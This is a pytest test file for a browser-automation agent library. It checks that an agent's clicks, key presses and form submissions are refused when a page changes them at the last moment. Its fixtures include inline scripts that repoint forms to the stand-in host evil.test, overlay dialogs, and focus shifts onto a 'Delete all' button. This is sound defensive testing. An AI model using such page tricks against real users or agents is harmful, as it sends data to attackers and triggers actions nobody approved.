"""Where a form goes, what lies over it and what has the focus, looked at again at the moment of the act."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import skillbook as sb
from skillbook.agents import Run
from skillbook.errors import ApprovalRequired, NotActionable, SkillbookError, StaleRef
from skillbook.io_thread import io
from skillbook.protocol.envelopes import RequestBody
from skillbook.session.actions.prepare import prepare
from skillbook.session.sync import Browser, Page
from skillbook.testing.scripted_model import ScriptedModel, ToolCall

HIT = "onclick='window.hit = (window.hit || 0) + 1'"
CATCH = "onsubmit='window.sent = (window.sent || []).concat(event.target.action); return false'"
ELSEWHERE = "https://evil.test/take"


@pytest.fixture(autouse=True)
def own_home(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SKILLBOOK_HOME", str(home))


def act(page: Page, tool: str, selector: str | None, **args: str) -> Run:
    target = {} if selector is None else {"target": str(page.snapshot().find(selector).ref)}
    return sb.agent(
        page, "go", model=ScriptedModel([ToolCall(tool, {**target, **args}), "done"]), autonomy="all"
    ).run()


def form(attributes: str, swap: str = f"this.form.action = `{ELSEWHERE}`") -> str:
    return f"<form action=/next {CATCH}><button {attributes.format(swap=swap)}>Go on</button></form>"


SWAPS = [
    'onmousemove="{swap}"',
    'onpointerdown="{swap}"',
    'onmousedown="{swap}"',
    'onclick="{swap}"',
    'onmousedown="{swap}" formaction=/other',
]


@pytest.mark.parametrize("attributes", SWAPS)
def test_fault_21_a_form_that_is_led_elsewhere_at_the_last_moment_is_not_sent(
    serve_html: Callable[[str], Page], attributes: str
) -> None:
    swap = f"this.setAttribute('formaction', `{ELSEWHERE}`)" if "formaction" in attributes else None
    page = serve_html(form(attributes, swap) if swap else form(attributes))
    run = act(page, "click", "button 'Go on'")
    assert [record.error for record in run.records] == ["approval_required"]
    assert "evil.test" in run.records[0].result
    assert page.evaluate("window.sent ?? null") is None
    page.click("button 'Go on'")
    assert len(page.evaluate("window.sent")) == 1, "a person may send it there"


@pytest.mark.parametrize("attributes", ['onmousedown="{swap}"', 'onclick="{swap}"'])
def test_fault_21_also_without_the_debugger(
    synthetic_browser: Browser, serve_html: Callable[[str], Page], attributes: str
) -> None:
    served = serve_html(form(attributes))
    page = synthetic_browser.open(served.url)
    run = act(page, "click", "button 'Go on'")
    assert [record.error for record in run.records] == ["approval_required"]
    assert page.get("url") == served.url


def test_a_form_that_stays_as_it_was_is_sent(show_html: Callable[[str], Page]) -> None:
    page = show_html(form(""))
    assert act(page, "click", "button 'Go on'").records[0].error is None
    assert act(page, "press", "button 'Go on'", key="Enter").records[0].error is None
    assert act(page, "submit", "button 'Go on'").records[0].error is None
    assert [each.rsplit("/", 1)[1] for each in page.evaluate("window.sent")] == ["next"] * 3


def test_fault_21_enter_in_a_field_sends_a_form_only_where_it_was_meant_to_go(
    serve_html: Callable[[str], Page],
) -> None:
    field = f"<input aria-label=Name onkeydown='this.form.action = `{ELSEWHERE}`'>"
    page = serve_html(f"<form action=/next {CATCH}>{field}<button>Go on</button></form>")
    run = act(page, "press", "textbox 'Name'", key="Enter")
    assert [record.error for record in run.records] == ["approval_required"]
    run = act(page, "type", "textbox 'Name'", text="Ann\n")
    assert page.evaluate("(window.sent ?? []).filter((each) => !each.includes('evil')).length") == 0


def test_a_form_cannot_hide_where_it_goes_behind_names_of_fields(show_html: Callable[[str], Page]) -> None:
    hiding = "".join(
        f"<input name={name}>"
        for name in ("action", "method", "elements", "baseURI", "ownerDocument", "children", "id")
    )
    page = show_html(f"<form action=/next method=post {CATCH}>{hiding}<button>Go on</button></form>")
    facts = io.sync(page.driver.describe("button 'Go on'")).form
    assert facts is not None
    assert (facts.method, facts.action.rsplit("/", 1)[1]) == ("post", "next")
    assert len(facts.fields) == 7


def test_the_form_of_a_button_is_where_the_button_sends_it(show_html: Callable[[str], Page]) -> None:
    page = show_html(
        "<form action=/save><input aria-label=Name>"
        "<button formaction=/delete-account formmethod=post>Go</button></form>"
    )
    for selector in ("button 'Go'", "textbox 'Name'"):
        facts = io.sync(page.driver.describe(selector)).form
        assert facts is not None
        assert (facts.method, facts.action.rsplit("/", 1)[1]) == ("post", "delete-account")
    assert act(page, "click", "button 'Go'").status == "waiting"


async def _approved(page: Page, command: str, selector: str, change: str, **params: str) -> None:
    """Act by an approval, while the page changes after it has been redeemed and before it is told to act."""
    driver = page.driver
    ready = await prepare(driver, command, selector, params, actor="agent", for_approval=True)
    token = driver.browser.gateway.approvals.issue(ready.binding)
    bridge = driver.browser.gateway.bridge
    request = bridge.request

    async def late(body: RequestBody, *args: Any, **options: Any) -> object:
        if body.command == command:
            await request(RequestBody(command="evaluate", params={"expression": change}, tab=body.tab))
        return await request(body, *args, **options)

    bridge.request = late  # type: ignore[method-assign, assignment]
    try:
        await driver.act(command, selector, actor="agent", approval=token, timeout=2, **params)
    finally:
        bridge.request = request  # type: ignore[method-assign]


CHANGES = {
    "action": f"void (b.form.action = '{ELSEWHERE}')",
    "method": "void (b.form.method = 'post')",
    "formaction": f"b.setAttribute('formaction', '{ELSEWHERE}')",
    "overlay": "void (b.insertAdjacentHTML('afterend', '<dialog open id=d>Win</dialog>'), "
    "d.style = 'position:fixed;inset:0;width:100vw;height:100vh')",
}


@pytest.mark.parametrize("command", ["click", "press", "submit"])
@pytest.mark.parametrize("change", CHANGES)
def test_fault_21_a_change_between_the_approval_and_the_press_is_refused(
    show_html: Callable[[str], Page], command: str, change: str
) -> None:
    page = show_html(f"<form action=/next {CATCH}><button id=b>Send</button></form>")
    params = {"key": "Enter"} if command == "press" else {}
    with pytest.raises((ApprovalRequired, NotActionable)) as refused:
        io.sync(_approved(page, command, "button 'Send'", CHANGES[change], **params))
    told = f"{refused.value} {refused.value.data}"
    assert {"action": "evil.test", "formaction": "evil.test", "overlay": "Win", "method": "post"}[
        change
    ] in told
    assert page.evaluate("window.sent ?? null") is None


FOCUS = f"<input aria-label=Name id=f><button id=b {HIT}>Delete all</button>"


def test_fault_21_a_key_without_a_target_goes_only_to_what_had_the_focus(
    show_html: Callable[[str], Page],
) -> None:
    page = show_html(FOCUS)
    page.focus("textbox 'Name'")
    with pytest.raises(SkillbookError) as moved:
        io.sync(_keyed(page, "void b.focus()"))
    assert moved.value.data["reason"] == "focus_lost"
    assert page.evaluate("window.hit ?? 0") == 0
    page.focus("textbox 'Name'")
    assert act(page, "press", None, key="x").records[0].error is None
    assert page.evaluate("f.value") == "x"


def test_fault_21_a_key_for_the_document_goes_to_no_element(show_html: Callable[[str], Page]) -> None:
    page = show_html(FOCUS + "<div id=box tabindex=-1 role=dialog aria-label=Box>Text</div>")
    with pytest.raises(SkillbookError) as moved:
        io.sync(_keyed(page, "void b.focus()"))
    assert moved.value.data["reason"] == "focus_lost"
    assert page.evaluate("window.hit ?? 0") == 0
    for focus in ("document.activeElement.blur()", "void box.focus()"):
        page.evaluate(focus)
        page.evaluate("window.keys = 0; onkeydown = () => { window.keys++ }; 0")
        assert act(page, "press", None, key="Escape").records[0].error is None
        assert page.evaluate("window.keys") == 1


def test_fault_18_a_key_without_a_target_is_not_for_the_next_document(
    serve_html: Callable[[str], Page],
) -> None:
    target = serve_html(f"<button autofocus {HIT}>Delete all</button>")
    page = serve_html(FOCUS)
    page.focus("textbox 'Name'")
    with pytest.raises((StaleRef, NotActionable)):
        io.sync(_keyed(page, f"void (location = {target.url!r})", landing=target.url))
    assert page.evaluate("window.hit ?? 0") == 0


def test_a_key_without_a_target_goes_to_the_focused_frame(show_html: Callable[[str], Page]) -> None:
    inner = "<input aria-label=Inner id=i><input aria-label=Other>"
    page = show_html(f"{FOCUS}<iframe srcdoc='{inner}'></iframe>")
    page.focus("textbox 'Inner'")
    assert act(page, "press", None, key="y").records[0].error is None
    assert page.get("value", "textbox 'Inner'") == "y"
    page.focus("textbox 'Name'")
    assert act(page, "press", None, key="z").records[0].error is None
    assert page.evaluate("f.value") == "z"
    page.evaluate("void document.querySelector('iframe').contentDocument.activeElement.blur()")
    page.evaluate("void document.querySelector('iframe').focus()")
    assert act(page, "press", None, key="ArrowDown").records[0].error is None


async def _keyed(page: Page, change: str, landing: str | None = None) -> None:
    """Press Enter as an agent, while the page changes between the judgement and the key."""
    bridge = page.driver.browser.gateway.bridge
    request = bridge.request

    async def late(body: RequestBody, *args: Any, **options: Any) -> object:
        if body.command == "press":
            await request(RequestBody(command="evaluate", params={"expression": change}, tab=body.tab))
            if landing:
                await request(RequestBody(command="wait_for", params={"url": landing}, tab=body.tab))
        return await request(body, *args, **options)

    bridge.request = late  # type: ignore[method-assign, assignment]
    try:
        await page.driver.act("press", actor="agent", key="Enter", timeout=5)
    finally:
        bridge.request = request  # type: ignore[method-assign]
